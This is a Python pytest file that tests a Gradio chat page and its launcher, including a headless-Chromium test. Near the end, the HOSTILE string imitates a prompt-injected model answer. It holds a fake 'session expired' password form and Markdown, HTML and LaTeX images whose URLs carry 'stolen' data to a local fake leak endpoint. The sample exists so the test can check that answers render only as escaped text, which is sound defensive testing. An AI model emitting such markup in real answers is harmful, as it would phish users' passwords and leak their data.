"""tools.web and tools.chat_launcher: the page's chat function against the real server, the launcher's start and
Ctrl-C, and the page in a real headless browser (Debian's chromium + chromium-driver, driven by selenium).

The browser test skips unless ``/usr/bin/chromium``, ``/usr/bin/chromedriver`` and selenium are installed:
``apt-get install -y chromium chromium-driver fonts-wqy-microhei`` (the font draws the Chinese labels).
"""

from __future__ import annotations

import importlib.util
import json
import signal
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.helpers.chat_checkpoint import ANSWER, Child, free_ports, http_status, make_endless_checkpoint
from tools.chat_launcher import ChatLauncherArguments, slider_defaults
from tools.chat_launcher import main as launcher_main
from tools.web import LABELS, WebArguments, as_shown, build_demo, build_messages

pytest_plugins = ["tests.helpers.chat_checkpoint"]
pytest.importorskip("gradio", reason="requirements/serve.txt is not installed")
openai = pytest.importorskip("openai", reason="requirements/serve.txt is not installed")

CHROMIUM, CHROMEDRIVER = Path("/usr/bin/chromium"), Path("/usr/bin/chromedriver")
MISSING = [
    f"{path} (apt-get install -y {package})"
    for path, package in ((CHROMIUM, "chromium fonts-wqy-microhei"), (CHROMEDRIVER, "chromium-driver"))
    if not path.exists()
]
if importlib.util.find_spec("selenium") is None:
    MISSING.append("selenium (pip install -r requirements/serve.txt)")
needs_browser = pytest.mark.skipif(bool(MISSING), reason=f"the browser test needs {', '.join(MISSING)}")
# Headless, as root in a container, and quiet: no first-run pages, no background connections to Google.
CHROME_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-quic",
    "--window-size=1200,1000",
]
# The launcher's default answer length, within the 128-token context; the endless checkpoint always runs to it.
ENDLESS_TOKENS = 100
PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


def test_history_becomes_openai_messages():
    history = [
        {"role": "user", "content": "Hi"},
        {"role": "assistant", "content": [{"type": "text", "text": ANSWER}]},  # Gradio 6's content parts
        {"role": "assistant", "content": f"{LABELS['no_server']}: http://x"},  # the page's own note: dropped
    ]
    assert build_messages("How are you?", history, "  Be brief. ") == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "Hi"},
        {"role": "assistant", "content": ANSWER},
        {"role": "user", "content": "How are you?"},
    ]
    assert build_messages("Hi", [], "") == [{"role": "user", "content": "Hi"}]


def test_shown_reasoning_never_goes_back_to_the_model():
    history = [
        {"role": "user", "content": "2+2?"},
        {"role": "assistant", "content": "2 + 2 = 4", "metadata": {"title": LABELS["thought"]}},
        {"role": "assistant", "content": "4", "metadata": None},
    ]
    assert build_messages("And 3+3?", history) == [
        {"role": "user", "content": "2+2?"},
        {"role": "assistant", "content": "4"},
        {"role": "user", "content": "And 3+3?"},
    ]


def test_the_thinking_box_asks_for_the_switch_and_shows_the_reasoning_folded(chat_server):
    """With the box ticked the request carries chat_template_kwargs; the reasoning comes back apart and is shown
    as a titled (folded) message before the answer. The tiny model never closes its think block: no answer."""
    demo = build_demo(WebArguments(base_url=chat_server[1]))
    *_, last = demo.fn("Hi", [], "", 0.0, 0.8, 12, True)
    thought, answer = last
    assert thought.metadata["title"] == LABELS["thought"] and thought.content
    assert answer.content == LABELS["empty"]
    plain = list(demo.fn("Hi", [], "", 0.0, 0.8, 12, False))
    assert plain[-1] == ANSWER


def test_answers_are_shown_escaped_and_go_back_as_written():
    written = "<b>a</b> &amp; 1 < 2 &lt;\n  x"
    shown = as_shown(written)
    assert shown == "&lt;b&gt;a&lt;/b&gt; &amp;amp; 1 &lt; 2 &amp;lt;\n  x"
    history = [{"role": "user", "content": "<i>typed</i>"}, {"role": "assistant", "content": shown}]
    assert build_messages("Hi", history)[:2] == [
        {"role": "user", "content": "<i>typed</i>"},
        {"role": "assistant", "content": written},
    ]


def test_sliders_start_at_the_checkpoints_sampling_defaults():
    from utils.generation import SAMPLING_DEFAULTS

    args = WebArguments()
    assert (args.temperature, args.top_p) == (SAMPLING_DEFAULTS["temperature"], SAMPLING_DEFAULTS["top_p"])
    # The launcher reads them from the served checkpoint; a greedy checkpoint starts the page at temperature 0.
    assert slider_defaults(SAMPLING_DEFAULTS) == ["--temperature", "0.7", "--top_p", "0.8"]
    assert slider_defaults({"do_sample": False, "temperature": 0.7}) == ["--temperature", "0"]


def test_an_unreachable_server_is_a_note_in_the_chat():
    base_url = f"http://127.0.0.1:{free_ports(1)[0]}/v1"
    demo = build_demo(WebArguments(base_url=base_url, timeout=5))
    assert list(demo.fn("Hi", [], "", 0.7, 0.8, 16)) == [f"{LABELS['no_server']}: {base_url}"]


def test_a_refused_request_is_a_note_in_the_chat(chat_server):
    demo = build_demo(WebArguments(base_url=chat_server[1], model="nope"))
    answers = list(demo.fn("Hi", [], "", 0.7, 0.8, 16))
    assert len(answers) == 1 and answers[0].startswith(f"{LABELS['server_error']} 404: ")


def test_the_page_streams_the_answer_with_the_history(chat_server):
    demo = build_demo(WebArguments(base_url=chat_server[1]))
    history = [{"role": "user", "content": "Hi"}, {"role": "assistant", "content": ANSWER}]
    answers = list(demo.fn("How are you?", history, "You are a helpful assistant.", 0.7, 0.8, 20))
    assert len(answers) >= 2 and answers[-1] == ANSWER  # growing prefixes, then the whole answer
    assert all(ANSWER.startswith(text) for text in answers)


def test_the_launcher_refuses_a_folder_that_is_not_a_checkpoint(tmp_path, capsys):
    assert launcher_main(ChatLauncherArguments(model_name_or_path=str(tmp_path))) == 2
    assert capsys.readouterr().err == f"error: cannot serve {tmp_path}: not a checkpoint, no config.json\n"


@pytest.fixture(scope="module")
def launched(chat_checkpoint, tmp_path_factory):
    """``tools.chat_launcher`` on the endless checkpoint: yields ``(child, base_url, page_url)``."""
    folder = tmp_path_factory.mktemp("launch")
    endless = make_endless_checkpoint(chat_checkpoint, folder / "endless")
    port, web_port = free_ports(2)
    launcher = Child(
        "tools.chat_launcher",
        [
            "--model_name_or_path",
            str(endless),
            "--port",
            str(port),
            "--web_port",
            str(web_port),
            "--max_new_tokens",
            str(ENDLESS_TOKENS),
        ],
        folder / "launch.log",
    )
    seconds = launcher.wait_ready(f"http://127.0.0.1:{web_port}/")
    print(f"launcher: server and page ready after {seconds:.1f} s")
    yield launcher, f"http://127.0.0.1:{port}/v1", f"http://127.0.0.1:{web_port}/"
    launcher.stop(signal.SIGTERM)  # the launcher stops its children; a SIGKILL would leave them running


def test_the_server_uses_the_checkpoints_generation_config(launched):
    """The endless checkpoint's generation_config.json forbids the end tokens: the trained answer runs on to the
    launcher's default length (no max_tokens in the request)."""
    client = openai.OpenAI(base_url=launched[1], api_key="none", max_retries=0, timeout=60)
    response = client.chat.completions.create(model="endless", messages=[{"role": "user", "content": "Hi"}])
    assert response.choices[0].finish_reason == "length" and response.usage.completion_tokens == ENDLESS_TOKENS
    assert response.choices[0].message.content.startswith(ANSWER)


@pytest.fixture
def browser(tmp_path):
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = str(CHROMIUM)
    for flag in [*CHROME_FLAGS, f"--user-data-dir={tmp_path / 'chromium-profile'}"]:
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"performance": "ALL"})  # to list every request the page makes
    driver = webdriver.Chrome(service=Service(str(CHROMEDRIVER)), options=options)
    yield driver
    driver.quit()


def wait_for(condition, timeout: float = 30.0):
    deadline = time.monotonic() + timeout
    while not (value := condition()):
        if time.monotonic() > deadline:
            raise TimeoutError(f"not true after {timeout:.0f} s")
        time.sleep(0.05)
    return value


# One script call reads every bot message at once (while an answer streams, element references go stale), and
# whether the stop button is showing (it is while an answer comes in).
READ_CHAT = """return [[...document.querySelectorAll('#chatbot .message.bot')].map(e => e.innerText.trim()),
                       [...document.querySelectorAll('button.stop-button')].some(b => b.offsetParent !== null)]"""
LOADING = "Loading content"  # Gradio's placeholder before the first piece arrives
# The page records each text its last answer shows, as the browser renders it. Polling from the test instead
# misses renders when the machine is busy (CI's 2 cores run the server, chromium and pytest): each poll is a
# round trip through chromedriver, and a loaded CI run once saw only 2 of an answer's renders that way.
WATCH_RENDERS = """window.renders = [];
if (window.watcher) window.watcher.disconnect();
window.watcher = new MutationObserver(() => {
  const bots = [...document.querySelectorAll('#chatbot .message.bot')];
  const text = bots.length ? bots[bots.length - 1].innerText.trim() : '';
  const last = window.renders[window.renders.length - 1];
  if (text && text !== arguments[0] && !(last && last[0] === bots.length && last[1] === text))
    window.renders.push([bots.length, text]);
});
window.watcher.observe(document.querySelector('#chatbot'), {subtree: true, childList: true, characterData: true});"""


def send_and_watch(driver, text: str, answers_before: int) -> list[str]:
    """Type ``text`` and Enter; return every distinct text the new answer showed, in the order the page rendered
    them, once the stop button has gone."""
    from selenium.common.exceptions import ElementNotInteractableException, StaleElementReferenceException
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    def typed() -> bool:  # the box is re-rendered, and briefly disabled, around each answer
        try:
            driver.find_element(By.CSS_SELECTOR, "#chat-input textarea").send_keys(text, Keys.ENTER)
        except (ElementNotInteractableException, StaleElementReferenceException):
            return False
        return True

    driver.execute_script(WATCH_RENDERS, LOADING)
    wait_for(typed, timeout=10)
    started = time.monotonic()
    while time.monotonic() - started < 60:
        answers, streaming = driver.execute_script(READ_CHAT)
        if len(answers) > answers_before and answers[-1] not in ("", LOADING) and not streaming:
            time.sleep(0.3)  # let the last render land
            renders = driver.execute_script("return window.renders")
            return [shown for count, shown in renders if count > answers_before]
        time.sleep(0.05)
    raise TimeoutError(f"the answer to {text!r} did not finish in 60 s; seen: {driver.execute_script(READ_CHAT)}")


@needs_browser
def test_the_page_in_a_browser_streams_answers_and_keeps_the_history(launched, browser, tmp_path):
    from selenium.webdriver.common.by import By

    browser.get(launched[2])
    wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"))
    page = browser.find_element(By.TAG_NAME, "body").text
    assert all(LABELS[key] in page for key in ("title", "settings", "system", "temperature", "max_tokens"))
    first = send_and_watch(browser, "Hi", answers_before=0)
    lengths = [len(text) for text in first]
    # It grew in front of the user: a part of the answer was on the page before the whole of it. (How many parts
    # the page shows depends on the machine's load; one of them before the end is what streaming means.)
    assert len(first) >= 2 and len(first[0]) < len(first[-1]), first
    assert all(later.startswith(earlier) for earlier, later in zip(first, first[1:])), lengths
    assert first[-1].startswith(ANSWER) and "<|im_end|>" not in first[-1]
    second = send_and_watch(browser, "How are you?", answers_before=1)
    answers, _ = browser.execute_script(READ_CHAT)
    assert answers == [first[-1], second[-1]]  # the first exchange is still on the page
    screenshot = tmp_path / "chat_page.png"
    assert browser.save_screenshot(str(screenshot))
    assert screenshot.stat().st_size > 0 and screenshot.read_bytes()[:8] == PNG_MAGIC
    requested = {
        json.loads(entry["message"])["message"]["params"].get("request", {}).get("url", "")
        for entry in browser.get_log("performance")
    }
    assert not [u for u in requested if u.startswith("http") and not u.startswith("http://127.0.0.1")]
    print(f"first answer grew over {len(first)} renders: {lengths[:5]} ... {lengths[-1]} characters")


# What a prompt-injected answer could hold to send data out of the page: a form asking for a password, a Markdown
# image and an HTML image that the browser would fetch (their URLs carry the "stolen" data), a LaTeX image.
HOSTILE = (
    "Your session expired. Sign in again:\n"
    "<form action='{leak}/form'><input type='password' name='p'><button>OK</button></form>\n"
    "![chart]({leak}/markdown-image.png?secret=42)\n"
    "<img src='{leak}/html-image.png?secret=42'>\n"
    "$$\\includegraphics{{{leak}/latex.png}}$$ & **bold** <b>done</b>"
)


class FakeModelServer(ThreadingHTTPServer):
    """An OpenAI chat API that streams ``answer`` to every request, and counts every other request it gets (the
    page must never make the browser fetch anything from it)."""

    def __init__(self, answer: str):
        self.fetched: list[str] = []
        self.answer_template = answer
        super().__init__(("127.0.0.1", 0), FakeModelHandler)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    @property
    def answer(self) -> str:
        return self.answer_template.format(leak=f"{self.base_url}/leak")


class FakeModelHandler(BaseHTTPRequestHandler):
    def do_POST(self):  # noqa: N802 - http.server's name
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if self.path != "/v1/chat/completions":
            return self.do_GET()
        answer = self.server.answer
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        base = {"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "fake"}
        for piece in (answer[: len(answer) // 2], answer[len(answer) // 2 :]):
            choice = {"index": 0, "delta": {"content": piece}, "finish_reason": None}
            self.wfile.write(f"data: {json.dumps({**base, 'choices': [choice]})}\n\n".encode())
        choice = {"index": 0, "delta": {}, "finish_reason": "stop"}
        self.wfile.write(f"data: {json.dumps({**base, 'choices': [choice]})}\n\ndata: [DONE]\n\n".encode())

    def do_GET(self):  # noqa: N802
        self.server.fetched.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def hostile_page(tmp_path):
    """The page on a fake model server whose every answer is ``HOSTILE``: yields ``(fake_server, page_url)``."""
    fake = FakeModelServer(HOSTILE)
    threading.Thread(target=fake.serve_forever, daemon=True).start()
    (port,) = free_ports(1)
    page = Child(
        "tools.web",
        ["--base_url", f"{fake.base_url}/v1", "--model", "fake", "--port", str(port)],
        tmp_path / "web.log",
    )
    page.wait_ready(f"http://127.0.0.1:{port}/")
    yield fake, f"http://127.0.0.1:{port}/"
    page.stop()
    fake.shutdown()


# Everything in the bot's messages that a browser would submit, fetch or run.
ACTIVE_ELEMENTS = """return [...document.querySelectorAll('#chatbot .message.bot .md')].flatMap(m =>
    [...m.querySelectorAll('form, input, button, img, iframe, object, embed, a[href], [src], [style]')]
    .map(e => e.outerHTML.slice(0, 80)))"""


@needs_browser
def test_an_answer_is_shown_as_text_never_as_html(hostile_page, browser):
    """A prompt-injected answer cannot put a password form on the page or make the browser fetch a URL."""
    from selenium.webdriver.common.by import By

    fake, page_url = hostile_page
    browser.get(page_url)
    wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"))
    shown = send_and_watch(browser, "Hi", answers_before=0)[-1]
    time.sleep(1)  # time for any image the page would load
    active = browser.execute_script(ACTIVE_ELEMENTS)
    print("active elements in the answer:", active)
    assert active == []
    assert shown == fake.answer.strip()  # every character as the model wrote it, line breaks included
    assert fake.fetched == []
    requested = {
        json.loads(entry["message"])["message"]["params"].get("request", {}).get("url", "")
        for entry in browser.get_log("performance")
    }
    assert not [url for url in requested if "/leak" in url]


def test_ctrl_c_stops_the_page_and_the_server(launched):
    launcher, base_url, page_url = launched
    started = time.perf_counter()
    assert launcher.stop(signal.SIGINT) == 0
    print(f"launcher: both stopped {time.perf_counter() - started:.1f} s after Ctrl-C")
    assert http_status(page_url) is None and http_status(base_url.removesuffix("/v1") + "/health") is None
    assert launcher.output().rstrip().endswith("stopped")
